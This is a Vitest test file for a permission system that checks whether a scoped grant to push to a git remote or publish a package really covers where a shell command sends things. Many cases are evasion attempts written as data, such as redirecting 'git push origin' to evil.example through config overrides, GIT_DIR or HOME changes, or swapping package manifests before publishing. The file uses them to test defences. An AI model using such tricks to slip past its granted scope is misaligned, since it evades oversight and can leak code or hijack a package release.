import { describe, expect, test } from 'vitest'
import { allocate } from '../../grants/allocate.ts'
import type { GrantScope, HeldGrant } from '../../grants/grant.ts'
import { settled } from '../../grants/settled.ts'
import { facts } from '../bash/harness.ts'

/** What a grant covers of a command, as it is analysed in a described repository: the scope holds for where things really go. */

const WORLD = {
  git: {
    '/repo': { top: '/repo', branch: 'main', remotes: { origin: 'https://git.example/a/b' }, aliases: {} },
    '/tmp/other': { top: '/tmp/other', branch: 'main', remotes: { origin: 'https://evil.example/x' }, aliases: {} },
  },
  files: {
    '/repo/package.json': '{"name":"left-pad","version":"1.0.0"}',
    '/repo/other/package.json': '{"name":"react"}',
    '/repo/left-pad/package.json': '{"name":"react"}',
    '/repo/broken/package.json': '{"name":',
    '/repo/nameless/package.json': '{}',
    '/repo/Cargo.toml': '[workspace]\nmembers = ["x"]\n[package]\nname = "left-pad"\nversion = "1.0.0"\n[dependencies]\nname = "x"\n',
    '/repo/crate/Cargo.toml': '[workspace]\nname = "left-pad"\n',
  },
}

function covered(command: string, action: string, scope: GrantScope): boolean {
  const binding = { session: null, role: null, user: null, agent: null }
  const held: HeldGrant = {
    ...{ id: 'g', action, scope, binding, notBefore: null, expires: null, count: null, parent: null },
    ...{ reason: '', author: 'test', source: 'store', used: 0, revoked: false },
  }
  const wanted = settled(facts(command, WORLD).effects).flatMap((effect, index) => (effect.verb === 'publish' ? [{ index, effect }] : []))
  expect(wanted.length).toBeGreaterThan(0)
  return allocate(wanted, [held], { ...binding, now: 0 }).every(({ grant }) => grant !== null)
}

describe('a push to `origin` is a push to the origin of the repository of the call', () => {
  for (const [command, expected] of [
    ['git push origin main', true],
    ['git push', true],
    ['git -C /repo push origin main', true],
    ['cd /repo && git push origin main', true],
    ['git -c user.name=x push origin main', true],
    ['git config user.email x@y && git push origin main', true],
    ['GIT_TRACE=1 git push origin main', true],
    ['git -c remote.origin.url=https://evil.example/x push origin main', false],
    ['git -c remote.origin.pushurl=https://evil.example/x push origin main', false],
    ['git -c REMOTE.origin.url=https://evil.example/x push origin main', false],
    ['git -c url.https://evil.example/.insteadOf=https://git.example/ push origin main', false],
    ['git -c include.path=/tmp/x push origin main', false],
    ['git -c "$X" push origin main', false],
    ['git --config-env=remote.origin.url=X push origin main', false],
    ['GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.url GIT_CONFIG_VALUE_0=x git push origin main', false],
    ['GIT_CONFIG_GLOBAL=/tmp/x git push origin main', false],
    ['GIT_DIR=/tmp/x git push origin main', false],
    ['HOME=/tmp/x git push origin main', false],
    ['XDG_CONFIG_HOME=/tmp/x git push origin main', false],
    ['env HOME=/tmp/x git push origin main', false],
    ['export HOME=/tmp/x; git push origin main', false],
    ['export GIT_DIR=/tmp/x; git push origin main', false],
    ['GIT_DIR=/tmp/x; export GIT_DIR; git push origin main', false],
    ['git --git-dir=/tmp/x push origin main', false],
    ['git --git-dir /tmp/x push origin main', false],
    ['git -C /tmp/other push origin main', false],
    ['git -C /tmp/unknown push origin main', false],
    ['cd /tmp/other && git push origin main', false],
    ['cd /tmp/unknown && git push origin main', false],
    ['cd "$X" && git push origin main', false],
    ['git clone https://evil.example/x /tmp/y && cd /tmp/y && git push origin main', false],
    ['git remote set-url origin https://evil.example/x && git push origin main', false],
    ['git remote set-url --push origin https://evil.example/x && git push origin main', false],
    ['git remote rm origin && git remote add origin https://evil.example/x && git push origin main', false],
    ['git config remote.origin.url https://evil.example/x && git push origin main', false],
    ['git config url.https://evil.example/.insteadOf https://git.example/ && git push origin main', false],
    ['echo x >> .git/config && git push origin main', false],
    ['git push https://evil.example/x main', false],
    ['git push evil main', false],
  ] as const) {
    test(`${command}: ${expected}`, () => {
      expect(covered(command, 'git:push', { remote: 'origin' })).toBe(expected)
      expect(covered(command, 'git:push', { target: 'origin' })).toBe(expected)
      expect(covered(command, 'git:push', { repository: 'https://git.example/a/b' })).toBe(expected)
    })
  }
  for (const command of [
    'git -c push.default=matching push',
    'git -c push.default=matching push origin',
    'git -c branch.main.merge=x push',
  ]) {
    test(`${command}: which branches is not known`, () => expect(covered(command, 'git:push', { branch: 'main' })).toBe(false))
  }
  test('a grant that names no place covers every one', () => {
    expect(covered('git -C /tmp/other push origin main', 'git:push', {})).toBe(true)
    expect(covered('git -C /tmp/other push origin main', 'git:push', { branch: 'main' })).toBe(true)
  })
})

describe('a package is called what its manifest says', () => {
  for (const [command, action, expected] of [
    ['npm publish', 'npm:publish', true],
    ['npm publish .', 'npm:publish', true],
    ['npm publish --access public', 'npm:publish', true],
    ['pnpm publish', 'npm:publish', true],
    ['yarn publish', 'npm:publish', true],
    ['bun publish', 'npm:publish', true],
    ['cd /repo && npm publish', 'npm:publish', true],
    ['npm test && npm publish', 'npm:publish', true],
    ['npm publish ./other', 'npm:publish', false],
    ['npm publish other', 'npm:publish', false],
    ['cd other && npm publish', 'npm:publish', false],
    ['pnpm publish left-pad', 'npm:publish', false],
    ['npm publish left-pad', 'npm:publish', false],
    ['npm publish /tmp/left-pad', 'npm:publish', false],
    ['npm publish left-pad-1.0.0.tgz', 'npm:publish', false],
    ['npm publish "$X"', 'npm:publish', false],
    ['npm publish -w other', 'npm:publish', false],
    ['npm publish --workspaces', 'npm:publish', false],
    ['npm --prefix other publish', 'npm:publish', false],
    ['pnpm -r publish', 'npm:publish', false],
    ['pnpm --filter other publish', 'npm:publish', false],
    ['cd broken && npm publish', 'npm:publish', false],
    ['cd nameless && npm publish', 'npm:publish', false],
    ['cd missing && npm publish', 'npm:publish', false],
    ['cd "$X" && npm publish', 'npm:publish', false],
    ['sed -i s/left-pad/react/ package.json && npm publish', 'npm:publish', false],
    ['echo {} > package.json; npm publish', 'npm:publish', false],
    ['cp other/package.json package.json; npm publish', 'npm:publish', false],
    ['mv other/package.json . && npm publish', 'npm:publish', false],
    ['cargo publish', 'crates:publish', true],
    ['cargo publish -p left-pad', 'crates:publish', true],
    ['cargo publish -p other', 'crates:publish', false],
    ['cargo publish --manifest-path /tmp/Cargo.toml', 'crates:publish', false],
    ['cd crate && cargo publish', 'crates:publish', false],
    ['sed -i s/left/right/ Cargo.toml && cargo publish', 'crates:publish', false],
  ] as const) {
    test(`${command}: ${expected}`, () => {
      expect(covered(command, action, { package: 'left-pad' })).toBe(expected)
      expect(covered(command, action, { target: 'left-pad' })).toBe(expected)
      expect(covered(command, action, {})).toBe(true)
    })
  }
})
